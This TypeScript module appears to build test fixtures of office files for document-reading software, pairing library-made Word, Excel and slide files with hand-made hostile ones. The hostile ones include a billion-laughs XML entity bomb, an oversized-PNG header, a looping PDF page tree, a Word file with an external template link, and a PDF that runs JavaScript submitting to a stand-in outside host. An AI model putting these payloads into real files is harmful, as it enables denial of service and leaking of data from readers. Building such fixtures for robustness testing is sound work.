/** Office-samples: files for the readers: honest ones by the libraries that offices use, hostile ones by hand. */
import { Document, ImageRun, Packer, Paragraph, Table, TableCell, TableRow, TextRun } from 'docx';
import ExcelJS from 'exceljs';
import type { Zippable } from 'fflate';
import { strToU8, zipSync } from 'fflate';

const xml = (body: string): Uint8Array =>
  strToU8(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>${body}`);
const packageTypes =
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/></Types>';
const relations = (items: string): Uint8Array =>
  xml(
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items}</Relationships>`,
  );
const officeRelation = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** One red dot. */
export const dotPng = Uint8Array.from(
  atob(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFAAH/e+m+7wAAAABJRU5ErkJggg==',
  ),
  (letter) => letter.charCodeAt(0),
);

/** A PNG head that claims so many pixels, with next to nothing behind it. */
export function hugePng(widthPx: number, heightPx: number): Uint8Array {
  const bytes = dotPng.slice();
  const view = new DataView(bytes.buffer);
  view.setUint32(16, widthPx);
  view.setUint32(20, heightPx);
  return bytes;
}

export async function wordFile(lines: readonly string[]): Promise<Uint8Array> {
  const word = new Document({
    sections: [
      {
        children: [
          ...lines.map((line) => new Paragraph(line)),
          new Table({
            rows: [
              new TableRow({
                children: ['单位', '责任人'].map(
                  (text) => new TableCell({ children: [new Paragraph(text)] }),
                ),
              }),
            ],
          }),
          new Paragraph({
            children: [
              new TextRun('红点：'),
              new ImageRun({
                type: 'png',
                data: dotPng,
                transformation: { width: 10, height: 10 },
              }),
            ],
          }),
        ],
      },
    ],
  });
  return new Uint8Array(await Packer.toBuffer(word));
}

export type SheetRows = readonly (readonly (
  string | number | Date | { formula: string; result: number }
)[])[];

export async function bookFile(
  sheets: Readonly<Record<string, SheetRows>>,
  change: (book: ExcelJS.Workbook) => void = () => undefined,
): Promise<Uint8Array> {
  const book = new ExcelJS.Workbook();
  for (const [name, rows] of Object.entries(sheets)) {
    book.addWorksheet(name).addRows(rows.map((row) => [...row]));
  }
  change(book);
  return new Uint8Array(await book.xlsx.writeBuffer());
}

/** A package of Word whose text is given as XML; `more` adds or replaces parts. */
export function wordPackage(
  body: string,
  { doctype = '', more = {} }: { readonly doctype?: string; readonly more?: Zippable } = {},
): Uint8Array {
  return zipSync({
    '[Content_Types].xml': xml(
      packageTypes.replace(
        '</Types>',
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
      ),
    ),
    '_rels/.rels': relations(
      `<Relationship Id="r1" Type="${officeRelation}/officeDocument" Target="word/document.xml"/>`,
    ),
    'word/document.xml': xml(
      `${doctype}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${officeRelation}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body>${body}</w:body></w:document>`,
    ),
    ...more,
  });
}

export const paragraph = (text: string): string => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;

/** A picture in the text that lies somewhere else. */
export function linkedPicture(address: string): { readonly body: string; readonly more: Zippable } {
  const body = `${paragraph('外部图片')}<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="r9"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
  const more = {
    'word/_rels/document.xml.rels': relations(
      `<Relationship Id="r9" Type="${officeRelation}/image" Target="${address}" TargetMode="External"/><Relationship Id="r8" Type="${officeRelation}/settings" Target="settings.xml"/>`,
    ),
    'word/settings.xml': xml(
      `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${officeRelation}"><w:attachedTemplate r:id="r7"/></w:settings>`,
    ),
    'word/_rels/settings.xml.rels': relations(
      `<Relationship Id="r7" Type="${officeRelation}/attachedTemplate" Target="${address}.dotm" TargetMode="External"/>`,
    ),
  };
  return { body, more };
}

export interface Slide {
  readonly lines: readonly string[];
  readonly notes?: string;
}

/** A presentation; its slides are named against their order. */
export function slidesFile(slides: readonly Slide[]): Uint8Array {
  const names =
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"';
  const shape = (lines: readonly string[]): string =>
    `<p:cSld><p:spTree><p:sp><p:txBody>${lines.map((line) => `<a:p><a:r><a:t>${line}</a:t></a:r></a:p>`).join('')}<a:p><a:fld type="slidenum"><a:t>7</a:t></a:fld></a:p></p:txBody></p:sp></p:spTree></p:cSld>`;
  const parts: Zippable = {};
  const last = slides.length;
  for (const [index, { lines, notes }] of slides.entries()) {
    const no = last - index;
    parts[`ppt/slides/slide${no}.xml`] = xml(`<p:sld ${names}>${shape(lines)}</p:sld>`);
    if (notes === undefined) continue;
    parts[`ppt/slides/_rels/slide${no}.xml.rels`] = relations(
      `<Relationship Id="n" Type="${officeRelation}/notesSlide" Target="../notesSlides/notesSlide${no}.xml"/>`,
    );
    parts[`ppt/notesSlides/notesSlide${no}.xml`] = xml(
      `<p:notes ${names}>${shape([notes])}</p:notes>`,
    );
  }
  return zipSync({
    '[Content_Types].xml': xml(packageTypes),
    'ppt/presentation.xml': xml(
      `<p:presentation ${names} xmlns:r="${officeRelation}"><p:sldIdLst>${slides.map((_, index) => `<p:sldId id="${256 + index}" r:id="s${index}"/>`).join('')}</p:sldIdLst></p:presentation>`,
    ),
    'ppt/_rels/presentation.xml.rels': relations(
      slides
        .map(
          (_, index) =>
            `<Relationship Id="s${index}" Type="${officeRelation}/slide" Target="slides/slide${last - index}.xml"/>`,
        )
        .join(''),
    ),
    ...parts,
  });
}

/** A workbook of one sheet whose rows are given as XML. */
export function sheetPackage(sheet: string, doctype = ''): Uint8Array {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  return zipSync({
    '[Content_Types].xml': xml(packageTypes),
    '_rels/.rels': relations(
      `<Relationship Id="r1" Type="${officeRelation}/officeDocument" Target="xl/workbook.xml"/>`,
    ),
    'xl/workbook.xml': xml(
      `<workbook xmlns="${main}" xmlns:r="${officeRelation}"><sheets><sheet name="表一" sheetId="1" r:id="s1"/></sheets></workbook>`,
    ),
    'xl/_rels/workbook.xml.rels': relations(
      `<Relationship Id="s1" Type="${officeRelation}/worksheet" Target="worksheets/sheet1.xml"/>`,
    ),
    'xl/worksheets/sheet1.xml': xml(
      `${doctype}<worksheet xmlns="${main}"><sheetData>${sheet}</sheetData></worksheet>`,
    ),
  });
}

/** Nine steps of ten: a text of a gigabyte, if anybody wrote it out. */
export const manyLaughs = `<!DOCTYPE x [<!ENTITY l0 "lol">${Array.from(
  { length: 9 },
  (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
).join('')}]>`;
/** A page tree that contains itself. */
export const loopingPdf = strToU8(
  [
    '%PDF-1.4',
    '1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj',
    '2 0 obj <</Type/Pages/Kids[2 0 R]/Count 1000000>> endobj',
    'trailer <</Root 1 0 R/Size 3>>',
    '%%EOF',
  ].join('\n'),
);
/** One page with a black square; JavaScript when it is opened, when the page is shown, and behind a link over all of it. */
export const pdfWithScript = strToU8(
  [
    '%PDF-1.4',
    '1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/Names <</JavaScript <</Names [(a) 4 0 R]>>>>>> endobj',
    '2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj',
    '3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/AA <</O 4 0 R>>/Annots[5 0 R]/Contents 6 0 R>> endobj',
    '4 0 obj <</S/JavaScript/JS(app.alert\\("run"\\); this.submitForm\\("https://outside.invalid/"\\);)>> endobj',
    '5 0 obj <</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A 4 0 R>> endobj',
    '6 0 obj <</Length 22>> stream',
    '99 99 200 200 re f    ',
    'endstream endobj',
    'trailer <</Root 1 0 R/Size 6>>',
    '%%EOF',
  ].join('\n'),
);

/** A black square as a scanner packs it (CCITT group 4): one row by its runs, the others as the row above, the end. */
function blackSquare(sidePx: 64): Uint8Array {
  const bits = `0010011010100000011110000110111${'11'.repeat(sidePx - 1)}${'000000000001'.repeat(2)}`;
  const padded = bits.padEnd(Math.ceil(bits.length / 8) * 8, '0');
  return Uint8Array.from(padded.match(/.{8}/gu) ?? [], (byte) => Number.parseInt(byte, 2));
}

/** One page: a scan over all of it, and a line in GBK in a face that is not in the file, as old offices of China print. */
export function scannedPdf(): Uint8Array {
  const square = blackSquare(64);
  const words = 'q 595 0 0 842 0 0 cm /I Do Q BT /F 24 Tf 60 700 Td <C7E0CAAFBAD3> Tj ET';
  const head = [
    '%PDF-1.4',
    '1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj',
    '2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj',
    '3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources <</XObject <</I 5 0 R>>/Font <</F 6 0 R>>>>>> endobj',
    `4 0 obj <</Length ${words.length}>> stream\n${words}\nendstream endobj`,
    '6 0 obj <</Type/Font/Subtype/Type0/BaseFont/SimSun/Encoding/GBK-EUC-H/DescendantFonts[7 0 R]>> endobj',
    '7 0 obj <</Type/Font/Subtype/CIDFontType2/BaseFont/SimSun/CIDSystemInfo <</Registry(Adobe)/Ordering(GB1)/Supplement 2>>/FontDescriptor 8 0 R>> endobj',
    '8 0 obj <</Type/FontDescriptor/FontName/SimSun/Flags 4/FontBBox[0 -141 1000 859]/ItalicAngle 0/Ascent 859/Descent -141/CapHeight 683/StemV 80>> endobj',
    `5 0 obj <</Type/XObject/Subtype/Image/Width 64/Height 64/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/CCITTFaxDecode/DecodeParms <</K -1/Columns 64/Rows 64>>/Length ${square.length}>> stream\n`,
  ].join('\n');
  const tail = '\nendstream endobj\ntrailer <</Root 1 0 R/Size 9>>\n%%EOF';
  return new Uint8Array([...strToU8(head), ...square, ...strToU8(tail)]);
}

/** Two pages, and a third that is none. */
export const tornPagePdf = strToU8(
  [
    '%PDF-1.4',
    '1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj',
    '2 0 obj <</Type/Pages/Kids[3 0 R 5 0 R 4 0 R]/Count 3>> endobj',
    ...[3, 5].map(
      (no) =>
        `${no} 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents ${no + 3} 0 R/Resources <</Font <</F 7 0 R>>>>>> endobj`,
    ),
    '4 0 obj (torn) endobj',
    ...['First', 'Second'].map(
      (word, at) =>
        `${at * 2 + 6} 0 obj <</Length 35>> stream\nBT /F 24 Tf 60 700 Td (${word}) Tj ET\nendstream endobj`,
    ),
    '7 0 obj <</Type/Font/Subtype/Type1/BaseFont/Helvetica>> endobj',
    'trailer <</Root 1 0 R/Size 9>>',
    '%%EOF',
  ].join('\n'),
);
